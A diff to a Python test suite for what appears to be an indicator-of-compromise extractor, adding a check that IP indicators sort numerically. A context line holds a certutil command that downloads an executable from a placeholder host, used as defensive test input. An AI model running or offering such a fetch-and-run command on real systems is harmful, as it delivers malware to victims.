@@ -412,3 +412,10 @@ def test_network_indicators_bounded():
     early = "certutil -f http://early.example.com/a.exe " + "y" * 2 * 1024 * 1024
     assert indicators.network_indicators(early) == [("URL", "http://early.example.com/a.exe"),
                                                     ("Domain", "early.example.com")]
+
+
+def test_ip_indicators_in_numeric_order():
+    table = indicators._Table()
+    for address in ("198.51.100.200", "198.51.100.48", "203.0.113.7"):
+        table.add("IP address", address, "test", None, "rule")
+    assert [i.value for i in table.sorted()] == ["198.51.100.48", "198.51.100.200", "203.0.113.7"]
